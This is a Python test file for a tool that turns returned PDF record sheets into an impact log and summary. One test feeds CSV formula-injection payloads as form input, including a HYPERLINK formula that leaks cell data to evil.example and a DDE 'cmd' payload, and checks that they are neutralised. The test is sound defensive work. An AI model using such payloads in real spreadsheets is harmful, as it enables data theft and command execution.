"""The impact loop: fillable record sheets go out in a pack, come back filled, and `briefing
impact` turns them into a log and a summary; blank or foreign files are named, never counted."""

from __future__ import annotations

import csv
import io

from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject

from generator.commands.pack import make_pack, pack_settings
from generator.sheets.returned import gather
from tests.conftest import PARTNERSHIP_THEME, copy_examples


def _pack(tmp_path):
    output = tmp_path / "out" / "pack.pdf"
    make_pack([copy_examples(tmp_path / "b", 3)], output, PARTNERSHIP_THEME,
              pack_settings(title="Lessons", record_sheets=True))
    return output


def _fill(pack, target, values_by_sheet: dict[int, dict[str, str]]):
    """Fill the n-th sheet's fields (by the part of their names after the version), as a viewer would."""
    reader = PdfReader(pack)
    writer = PdfWriter(clone_from=reader)
    versions = sorted({name.split("_")[1] for name in reader.get_fields() if name.startswith("rs_")},
                      key=lambda version: list(reader.get_fields()).index(f"rs_{version}_team"))
    for index, values in values_by_sheet.items():
        named = {f"rs_{versions[index]}_{part}": value for part, value in values.items()}
        for page in writer.pages:
            writer.update_page_form_field_values(page, named, auto_regenerate=False)
    writer.write(target)
    return target


def test_sheets_have_named_fields_with_tooltips_and_say_which_briefing(tmp_path):
    fields = PdfReader(_pack(tmp_path)).get_fields()
    teams = [name for name in fields if name.endswith("_team")]
    assert len(teams) == 3
    version = teams[0].split("_")[1]
    assert fields[f"rs_{version}_team"]["/TU"] == "The team or service that met"
    assert f"rs_{version}_reflection_1" in fields and f"rs_{version}_action_1_owner" in fields
    assert '"title": "Patterns in practice' in fields[f"rs_{version}_briefing"]["/V"]


def test_filled_sheets_become_a_log_and_a_summary(tmp_path, cli):
    pack = _pack(tmp_path)
    filled = _fill(pack, tmp_path / "filled.pdf", {
        0: {"team": "Early Help North", "date": "2021-02-10", "delivered_by": "Sam Lee, team manager",
            "attendees": "Ann, Bo, Cy", "reflection_1": "We see drift in our cases.", "action_1_what": "Audit cases",
            "action_1_owner": "Sam", "action_1_when": "March"},
        2: {"team": "Health visitors", "date": "2021-02-12", "attendees": "12"},
    })
    other = _fill(pack, tmp_path / "other.pdf", {0: {"team": "Youth Justice", "date": "2021-03-01"}})
    notes = PdfWriter()
    notes.add_blank_page(200, 200)  # a PDF with no record sheet in it
    notes.write(tmp_path / "notes.pdf")
    result = cli("impact", filled, other, tmp_path / "notes.pdf", "-o", tmp_path / "report",
                 "--theme", PARTNERSHIP_THEME)
    assert "read 3 record sheets" in result.output and "blank sheets skipped" in result.output
    assert "notes.pdf: this file holds no record sheet" in result.output  # named, and the rest counted
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "report" / "impact.csv").read_text())))
    assert {row["team"] for row in rows} == {"Early Help North", "Health visitors", "Youth Justice"}
    first = next(row for row in rows if row["team"] == "Early Help North")
    assert first["attendee_count"] == "3" and first["actions"] == "Audit cases | Sam | March"
    assert first["briefing_id"] == "01-panel-annual-report-2018-19"
    assert next(row for row in rows if row["team"] == "Health visitors")["attendee_count"] == "12"
    summary = PdfReader(tmp_path / "report" / "impact.pdf").pages[0].extract_text()
    assert "3 record sheets came back for 2 briefings" in summary and "Audit cases" in summary
    html = (tmp_path / "report" / "impact.html").read_text()
    assert '<table class="stack" role="table"' in html and "Audit cases" in html and 'aria-label="Bar chart' in html


def test_a_log_given_back_merges_and_counts_each_sheet_once(tmp_path, cli):
    pack = _pack(tmp_path)
    filled = _fill(pack, tmp_path / "filled.pdf", {1: {"team": "Social care", "date": "2021-02-01"}})
    cli("impact", filled, "-o", tmp_path / "a")
    more = _fill(pack, tmp_path / "more.pdf", {0: {"team": "School nurses", "date": "2021-02-03"}})
    result = cli("impact", tmp_path / "a" / "impact.csv", filled, more, "-o", tmp_path / "b")
    assert result.exit_code == 0, result.output
    assert "read 2 record sheets" in result.output and "given twice, counted once" in result.output


def test_nothing_but_blank_sheets_is_an_error(tmp_path, cli):
    result = cli("impact", _pack(tmp_path), "-o", tmp_path / "r")
    assert result.exit_code == 1 and not (tmp_path / "r" / "impact.csv").exists()


def test_a_sheet_that_does_not_say_its_briefing_is_named(tmp_path):
    pack = _pack(tmp_path)
    reader = PdfReader(pack)
    version = next(name.split("_")[1] for name in reader.get_fields() if name.endswith("_briefing"))
    tampered = _fill(pack, tmp_path / "t.pdf", {})
    writer = PdfWriter(clone_from=PdfReader(tampered))
    for page in writer.pages:
        writer.update_page_form_field_values(page, {f"rs_{version}_briefing": "not json",
                                                    f"rs_{version}_team": "A team"}, auto_regenerate=False)
    writer.write(tmp_path / "t.pdf")
    found = gather([tmp_path / "t.pdf"])
    assert any("does not say which briefing" in problem.message for problem in found.problems)


def test_the_summary_and_the_sheets_pass_outloud(tmp_path, cli):
    from tests.test_accessibility import _outloud

    pack = _pack(tmp_path)
    filled = _fill(pack, tmp_path / "filled.pdf", {0: {"team": "Early Help", "date": "2021-02-10",
                                                      "action_1_what": "Audit cases"}})
    cli("impact", filled, "-o", tmp_path / "r", "--theme", PARTNERSHIP_THEME)
    sheet = tmp_path / "sheet"
    built = cli("build", copy_examples(tmp_path / "one", 1), "-o", sheet, "--record-sheet", "--theme",
                PARTNERSHIP_THEME)
    assert built.exit_code == 0, built.output
    found = _outloud([tmp_path / "r" / "impact.pdf", *sheet.glob("*-record.pdf"), pack])
    assert all(problems == [] for problems in found.values()), found


def test_the_feedback_link_is_on_the_record_sheet(tmp_path, cli):
    theme = tmp_path / "theme.yaml"
    theme.write_text("organisation: Board\nfeedback_url: https://forms.example.org/7mb\n")
    built = cli("build", copy_examples(tmp_path / "one", 1), "-o", tmp_path / "out", "--record-sheet", "--theme", theme)
    assert built.exit_code == 0, built.output
    sheet = PdfReader(next((tmp_path / "out").glob("*-record.pdf")))
    links = [annotation.get_object()["/A"]["/URI"] for annotation in sheet.pages[0]["/Annots"]
             if annotation.get_object()["/Subtype"] == "/Link"]
    assert "https://forms.example.org/7mb" in links
    assert "Tell us how you used this briefing" in sheet.pages[0].extract_text()


def test_a_sheet_from_another_version_of_a_briefing_is_named(tmp_path, cli):
    pack = _pack(tmp_path)
    filled = _fill(pack, tmp_path / "filled.pdf", {0: {"team": "Early Help", "date": "2021-02-10"}})
    current = tmp_path / "b" / "01-panel-annual-report-2018-19.yaml"
    assert "not among the briefings" not in cli("impact", filled, "-o", tmp_path / "r1", "--briefings",
                                                tmp_path / "b").output
    current.write_text(current.read_text().replace("Background", "Background, updated", 1))
    result = cli("impact", filled, "-o", tmp_path / "r2", "--briefings", tmp_path / "b")
    assert "version of it that is not among the briefings given" in result.output
    assert "read 1 record sheet" in result.output


def test_a_sheet_built_on_its_own_has_the_version_of_the_same_sheet_in_a_pack(tmp_path, cli):
    pack = _pack(tmp_path)
    cli("build", tmp_path / "b" / "01-panel-annual-report-2018-19.yaml", "-o", tmp_path / "one", "--record-sheet")
    alone = {name for name in PdfReader(tmp_path / "one" / "01-panel-annual-report-2018-19-record.pdf").get_fields()}
    assert alone <= set(PdfReader(pack).get_fields())


# -- what teams typed may be anything: never a formula, never a lost summary --------------------

def _report(tmp_path, cli, values: dict[int, dict[str, str]], *extra, theme=PARTNERSHIP_THEME):
    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", values)
    result = cli("impact", filled, *extra, "-o", tmp_path / "report", "--theme", theme)
    return result, tmp_path / "report"


def test_values_that_would_run_as_formulas_are_text_in_the_log_and_read_back_as_typed(tmp_path, cli):
    typed = {"team": '=HYPERLINK("https://evil.example/?d="&A2,"x")', "delivered_by": "+cmd|' /C calc'!A0",
             "attendees": "-2+3", "date": "2021-02-10", "action_1_what": "@SUM(1)", "action_1_owner": "\tTab"}
    result, report = _report(tmp_path, cli, {0: typed, 1: {"team": "Social care", "attendees": "12",
                                                            "date": "2021-02-11"}})
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO((report / "impact.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit() for cell in cells)
    assert "'=HYPERLINK(" in (report / "impact.csv").read_text(encoding="utf-8")
    assert "12" in cells  # a number stays a number
    back = gather([report / "impact.csv"]).sheets
    assert {sheet.team for sheet in back} == {typed["team"], "Social care"}
    assert next(sheet for sheet in back if sheet.team == typed["team"]).actions == [("@SUM(1)", "Tab", "")]


def test_a_character_no_font_has_is_named_and_the_summary_written(tmp_path, cli):
    result, report = _report(tmp_path, cli, {0: {"team": "Early Help", "date": "2021-02-10",
                                                 "action_1_what": "Call the family \U0001f642 联系家庭"}})
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert "SLIGHTLY SMILING FACE" in result.output
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages).split())
    assert "[SLIGHTLY SMILING FACE]" in text and "[CJK UNIFIED IDEOGRAPH-8054]" in text
    assert "\U0001f642 联系家庭" in (report / "impact.html").read_text(encoding="utf-8")
    assert "\U0001f642 联系家庭" in (report / "impact.csv").read_text(encoding="utf-8")


def test_a_field_no_sheet_has_is_named_and_the_rest_counted(tmp_path, cli):
    pack = _pack(tmp_path)
    filled = _fill(pack, tmp_path / "filled.pdf", {0: {"team": "Early Help", "date": "2021-02-10"}})
    reader = PdfReader(filled)
    version = next(name.split("_")[1] for name in reader.get_fields() if name.endswith("_team"))
    writer = PdfWriter(clone_from=reader)
    for page in writer.pages:
        for annotation in page.get("/Annots", []):
            field = annotation.get_object()
            if field.get("/T") == f"rs_{version}_reflection_1":
                from pypdf.generic import TextStringObject

                field[NameObject("/T")] = TextStringObject(f"rs_{version}_reflection_one")
    writer.write(tmp_path / "odd.pdf")
    result = cli("impact", tmp_path / "odd.pdf", "-o", tmp_path / "r")
    assert result.exit_code == 0 and "reflection_one" in result.output and "read 1 record sheet" in result.output


def test_a_damaged_log_names_the_row_and_keeps_the_rest(tmp_path, cli):
    from generator.sheets.returned import COLUMNS

    header = ",".join(COLUMNS)
    good = ",".join(["b1", "A briefing", "0123456789ab", "Team", "2021-02-01", "", "3", "", "3", "", "", "x.pdf"])
    big = ",".join(["b1", "A briefing", "0123456789ab", "Big", "2021-02-02", "", "", "", "", "x" * 200_000, "",
                    "y.pdf"])
    (tmp_path / "big.csv").write_text(f"{header}\n{good}\n{big}\n", encoding="utf-8")
    (tmp_path / "open.csv").write_text(f'{header}\n{good.replace("Team", "Other")}\nb2,"never closed\n',
                                       encoding="utf-8")
    result = cli("impact", tmp_path / "big.csv", tmp_path / "open.csv", "-o", tmp_path / "r")
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert "big.csv:3:1:" in result.output and "open.csv:3:1:" in result.output
    assert "read 2 record sheets" in result.output


def test_a_field_of_megabytes_is_named_without_reading_it(tmp_path, cli):
    import time

    import pikepdf

    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", {0: {"team": "Early Help", "action_1_what": "x"},
                                                               1: {"team": "Social care", "date": "2021-02-11"}})
    with pikepdf.open(filled, allow_overwriting_input=True) as pdf:  # ten megabytes typed in one field
        for page in pdf.pages:
            for annotation in page.get("/Annots", []):
                if str(annotation.get("/T", "")).endswith("_action_1_what") and str(annotation.get("/V", "")) == "x":
                    annotation.V = pikepdf.String("x" * 10_000_000)
        pdf.save(filled)
    started = time.monotonic()
    result = cli("impact", filled, "-o", tmp_path / "report")
    assert time.monotonic() - started < 10
    assert result.exit_code == 0 and "10,000,000 characters" in result.output and "read 1 record sheet" in result.output


def test_the_summary_speaks_the_theme_s_language_and_reads_dates_as_it_writes_them(tmp_path, cli):
    theme = tmp_path / "cy" / "theme.yaml"
    theme.parent.mkdir()
    theme.write_text("organisation: Bwrdd Diogelu\nlanguage: cy\n", encoding="utf-8")
    result, report = _report(tmp_path, cli, {0: {"team": "Tîm y Gogledd", "date": "03/12/2026", "attendees": "4"},
                                             1: {"team": "Tîm y De", "date": "20/11/2026"}}, theme=theme)
    assert result.exit_code == 0, result.output
    text = " ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages)
    assert "Beth newidiodd y briffiadau" in text and "20 Tachwedd 2026" in text
    assert "Sesiynau o 20 Tachwedd 2026 i 3 Rhagfyr 2026" in text and "Mawrth" not in text  # day first, as cy writes
    html = (report / "impact.html").read_text(encoding="utf-8")
    assert '<html lang="cy">' in html and "Beth newidiodd y briffiadau" in html


def test_every_briefing_title_is_on_the_chart_whole(tmp_path, cli):
    _, report = _report(tmp_path, cli, {index: {"team": f"Team {index}", "date": f"2021-02-1{index}"}
                                        for index in range(3)})
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(report / "impact.pdf").pages).split())
    assert text.count("It was hard to escape: children at risk from criminal exploitation") >= 2  # chart, table


def test_a_record_sheet_numbers_each_question_once_and_shares_the_page_for_writing(partnership_theme):
    from generator.layout.furniture import PageLayout
    from generator.read.briefing import BriefingFacts, load_briefing
    from generator.read.messages import for_briefing
    from generator.sheets.draw import render_record_sheet
    from generator.sheets.layout import record_sheet
    from tests.conftest import EXAMPLES

    facts = BriefingFacts.of(load_briefing(EXAMPLES / "01-panel-annual-report-2018-19.yaml"))
    text = PdfReader(io.BytesIO(render_record_sheet(facts, partnership_theme, "v1"))).pages[0].extract_text()
    assert "question 2" not in text and text.count("2. How does your team share learning") == 1
    plan = record_sheet(PageLayout(partnership_theme, for_briefing(facts, partnership_theme)), facts, "v1")
    reflections = [field for field in plan.fields if field.field.name.startswith("rs_v1_reflection")]
    assert len(reflections) == 3 and all(len(field.rules) >= 3 for field in reflections)  # room to write
    layout = PageLayout(partnership_theme, for_briefing(facts, partnership_theme))
    footer_top = layout.footer(None).rule[2]
    assert 2 <= plan.rows[-1] - footer_top < 30  # the actions table reaches the foot, clear of the footer's rule
    assert plan.band is not None and plan.logo is not None  # in the board's brand
